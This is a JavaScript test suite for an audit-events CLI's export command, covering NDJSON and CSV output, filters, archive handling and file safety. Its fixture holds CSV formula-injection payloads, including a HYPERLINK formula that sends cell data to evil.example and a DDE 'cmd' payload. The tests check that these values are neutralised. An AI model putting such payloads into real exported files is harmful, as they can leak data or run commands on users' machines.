// `audit-events export` on every dialect: NDJSON and CSV, --out, filters, the archive, hostile text.
import { expect } from 'chai';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { KnexEventStore } from '@audit-events/knex';
import { forEachDialect, uniqueTable } from '../helpers/databases.js';
import { makeEvent } from '../knex/support.js';
import { dbUrl, dropTables, emptyDir, runBin, runCli } from './harness.js';

const BASE = Date.UTC(2025, 0, 10, 8, 0, 0);

/** RFC 4180 records (quoted fields may hold commas, quotes doubled, CR and LF). */
function parseCsv(text) {
  const records = [];
  let record = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((field += '"'), i++);
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (record.push(field), (field = ''));
    else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      ((record = []), (field = ''), i++);
    } else field += c;
  }
  expect(field, 'the last record ends with CRLF').to.equal('');
  return records;
}

forEachDialect('cli: export', (ctx, dialect) => {
  const table = uniqueTable('cli_exp');
  const archiveTable = `${table}_arc`;
  let db;
  let events;
  const tableArgs = () => ['--db', db, '--table', table, '--archive-table', archiveTable];

  before(async function () {
    db = dbUrl(dialect, ctx);
    const store = new KnexEventStore(ctx.knex, { tableName: table, archiveTableName: archiveTable });
    await store.migrate();
    events = [];
    for (let i = 0; i < 40; i++) {
      events.push(
        makeEvent({
          createdAt: new Date(BASE + i * 60_000),
          contentType: i % 2 ? 'shop.invoice' : 'shop.order',
          objectId: String(i),
        }),
      );
    }
    // Hostile values: formulas, separators, quotes, line breaks, a URL with credentials.
    Object.assign(events[30], {
      userRepr: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      userAgent: '+cmd|" /C calc"!A0',
      objectId: '-2+3',
      url: 'https://bob:s3cret@shop.example.com/a,b',
      content: { note: 'line one\nline "two", three', n: -5 },
      requestId: '@SUM(1+1)',
      method: '\tPOST',
    });
    await store.save(events);
    // Audit-model values on a few live rows (the columns added as the upgrade migration does).
    for (const t of [table, archiveTable]) {
      for (const [column, length] of [
        ['tenant_id', 255],
        ['action', 200],
        ['outcome', 16],
        ['actor_type', 16],
      ]) {
        if (!(await ctx.knex.schema.hasColumn(t, column)))
          await ctx.knex.schema.alterTable(t, (b) => b.string(column, length).nullable());
      }
    }
    for (const i of [12, 13, 14]) {
      await ctx
        .knex(table)
        .where('id', events[i].id)
        .update({
          tenant_id: 'acme',
          action: 'order.deleted',
          outcome: i === 14 ? 'success' : 'denied',
          actor_type: 'api_key',
        });
    }
    // The first ten move to the archive.
    await store.archive({ olderThan: new Date(BASE + 10 * 60_000) });
    await store.close();
  });
  after(() => dropTables(ctx, table, archiveTable));

  it('writes NDJSON to stdout, oldest first, the live table only by default', async () => {
    const r = await runCli(['export', ...tableArgs()]);
    expect(r.code, r.stderr).to.equal(0);
    const lines = r.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((e) => e.id)).to.deep.equal(events.slice(10).map((e) => e.id));
    expect(lines[0].createdAt).to.equal(new Date(BASE + 10 * 60_000).toISOString());
    expect(r.stderr).to.equal('exported 30 events\n');
  });

  it('--include-archive merges the archive in order', async () => {
    const r = await runCli(['export', ...tableArgs(), '--include-archive']);
    expect(r.code, r.stderr).to.equal(0);
    expect(
      r.stdout
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l).id),
    ).to.deep.equal(events.map((e) => e.id));
  });

  it('filters by content type and time window (the CLI forms of --since/--until)', async () => {
    const r = await runCli([
      'export',
      ...tableArgs(),
      '--include-archive',
      '--content-type',
      'shop.order',
      '--since',
      new Date(BASE + 5 * 60_000).toISOString(),
      '--until',
      '2025-01-10T08:25Z',
    ]);
    expect(r.code, r.stderr).to.equal(0);
    const expected = events.filter((e, i) => i % 2 === 0 && i >= 5 && i < 25).map((e) => e.id);
    expect(
      r.stdout
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l).id),
    ).to.deep.equal(expected);
    const none = await runCli(['export', ...tableArgs(), '--object-id', 'nothing-like-this']);
    expect(none.code).to.equal(0);
    expect(none.stdout).to.equal('');
    expect(none.stderr).to.equal('exported 0 events\n');
  });

  it('filters by tenant, action, outcome and actor type', async () => {
    const r = await runCli([
      'export',
      ...tableArgs(),
      '--tenant-id',
      'acme',
      '--outcome',
      'denied',
      '--action',
      'order.deleted',
      '--actor-type',
      'api_key',
    ]);
    expect(r.code, r.stderr).to.equal(0);
    const lines = r.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((e) => e.id)).to.deep.equal([events[12].id, events[13].id]);
    expect(lines[0]).to.include({ tenantId: 'acme', outcome: 'denied', action: 'order.deleted', actorType: 'api_key' });
    const successes = await runCli(['export', ...tableArgs(), '--outcome', 'success']);
    expect(successes.stderr).to.equal('exported 28 events\n');
  });

  it('masks URL credentials in the output, as every CLI line is', async () => {
    const r = await runCli(['export', ...tableArgs(), '--object-id', '-2+3']);
    expect(r.code, r.stderr).to.equal(0);
    expect(r.stdout).to.not.include('s3cret');
    expect(JSON.parse(r.stdout).url).to.equal('https://bob:****@shop.example.com/a,b');
  });

  it('--format csv --out writes a private RFC 4180 file, formula-safe, nested values as JSON', async () => {
    const dir = emptyDir();
    const r = await runCli(['export', ...tableArgs(), '--include-archive', '--format', 'csv', '--out', 'events.csv'], {
      cwd: dir,
    });
    expect(r.code, r.stderr).to.equal(0);
    const out = join(dir, 'events.csv');
    expect(r.stdout).to.equal(`exported 40 events to ${out}\n`);
    expect(r.stderr).to.equal('');
    expect(statSync(out).mode & 0o777).to.equal(0o600);
    const [header, ...records] = parseCsv(readFileSync(out, 'utf8'));
    expect(header.slice(0, 5)).to.deep.equal(['id', 'created_at', 'tenant_id', 'content_type', 'object_id']);
    expect(records).to.have.length(40);
    expect(records.map((rec) => rec[0])).to.deep.equal(events.map((e) => e.id));
    for (const rec of records) expect(rec).to.have.length(header.length);
    const row = Object.fromEntries(header.map((h, i) => [h, records[30][i]]));
    expect(row.user_repr).to.equal(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(row.user_agent).to.equal(`'+cmd|" /C calc"!A0`);
    expect(row.object_id).to.equal("'-2+3");
    expect(row.request_id).to.equal("'@SUM(1+1)");
    expect(row.method).to.equal("'\tPOST");
    expect(row.url).to.equal('https://bob:****@shop.example.com/a,b');
    expect(JSON.parse(row.content)).to.deep.equal({ note: 'line one\nline "two", three', n: -5 });
    expect(JSON.parse(row.headers)).to.deep.equal(events[30].headers);
    expect(row.created_at).to.equal(events[30].createdAt.toISOString());
    // No cell anywhere starts with a formula character.
    for (const rec of records) for (const cell of rec) expect(cell).to.not.match(/^[=+\-@\t\r]/);
  });

  it('never replaces --out without --force, and leaves no partial file', async () => {
    const dir = emptyDir();
    const out = join(dir, 'keep.ndjson');
    writeFileSync(out, 'precious\n');
    const refused = await runCli(['export', ...tableArgs(), '--out', out]);
    expect(refused.code).to.equal(3);
    expect(refused.stderr).to.match(/keep\.ndjson exists; pass --force to replace it/);
    expect(readFileSync(out, 'utf8')).to.equal('precious\n');
    const forced = await runCli(['export', ...tableArgs(), '--out', out, '--force', '--json']);
    expect(forced.code, forced.stderr).to.equal(0);
    expect(JSON.parse(forced.stdout)).to.deep.include({
      ok: true,
      command: 'export',
      events: 30,
      out,
      format: 'ndjson',
    });
    expect(readFileSync(out, 'utf8').trimEnd().split('\n')).to.have.length(30);
    expect(statSync(out).mode & 0o777).to.equal(0o600);
  });

  it('refuses bad filters before connecting (exit 2)', async () => {
    for (const args of [
      ['--since', '2025-02-01', '--until', '2025-01-01'],
      ['--outcome', 'maybe'],
      ['--format', 'xml'],
      ['--since', 'yesterday'],
    ]) {
      const r = await runCli(['export', ...tableArgs(), ...args]);
      expect(r.code, args.join(' ')).to.equal(2);
      expect(r.stdout).to.equal('');
    }
  });

  it('fails with exit 4 when the archive table is missing and --include-archive is given', async () => {
    const r = await runCli([
      'export',
      '--db',
      db,
      '--table',
      table,
      '--archive-table',
      uniqueTable('nope'),
      '--include-archive',
    ]);
    expect(r.code).to.equal(4);
    expect(r.stdout).to.equal('');
  });

  it('draws a progress count only when stderr is a terminal', async () => {
    const r = await runCli(['export', ...tableArgs(), '--out', join(emptyDir(), 'x.ndjson')], { tty: true });
    expect(r.code, r.stderr).to.equal(0);
    expect(r.stderr).to.match(/exporting \| 30 events/);
  });

  if (dialect === 'sqlite') {
    it('streams through the real bin to a pipe', async function () {
      this.timeout(120_000);
      const r = await runBin(['export', ...tableArgs(), '--include-archive', '--format', 'csv']);
      expect(r.code, r.stderr).to.equal(0);
      expect(parseCsv(r.stdout)).to.have.length(41);
      expect(r.stderr).to.equal('exported 40 events\n');
    });
  }
});

describe('cli: export interrupted', () => {
  it('Ctrl-C stops the export: exit 130, --out is not written, no temporary file left', async () => {
    const { EventEmitter } = await import('node:events');
    const { readdirSync } = await import('node:fs');
    const { run } = await import('@audit-events/cli');
    const dir = emptyDir();
    const db = `sqlite:${join(dir, 'audit.db')}`;
    expect((await runCli(['migrate', '--db', db])).code).to.equal(0);
    const knexFactory = (await import('knex')).default;
    const knex = knexFactory({
      client: 'sqlite3',
      connection: { filename: join(dir, 'audit.db') },
      useNullAsDefault: true,
    });
    const store = new KnexEventStore(knex, {});
    await store.save(Array.from({ length: 50 }, (_, i) => makeEvent({ createdAt: new Date(BASE + i) })));
    await store.close();
    await knex.destroy();
    const signals = new EventEmitter();
    let sent = false;
    let errText = '';
    // The progress count's first draw stands in for the user pressing Ctrl-C mid-export.
    const stderr = {
      isTTY: true,
      columns: 120,
      write(chunk) {
        errText += String(chunk);
        if (!sent) {
          sent = true;
          signals.emit('SIGINT');
        }
        return true;
      },
    };
    const stdout = {
      text: '',
      write(chunk) {
        this.text += chunk;
        return true;
      },
    };
    const code = await run(['node', 'audit-events', 'export', '--db', db, '--out', 'x.ndjson'], {
      stdout,
      stderr,
      env: {},
      cwd: dir,
      signals,
    });
    expect(code).to.equal(130);
    expect(errText).to.match(/interrupted after 0 events; \S+x\.ndjson was not written/);
    expect(readdirSync(dir).filter((name) => name.startsWith('x.ndjson'))).to.deep.equal([]);
  });
});
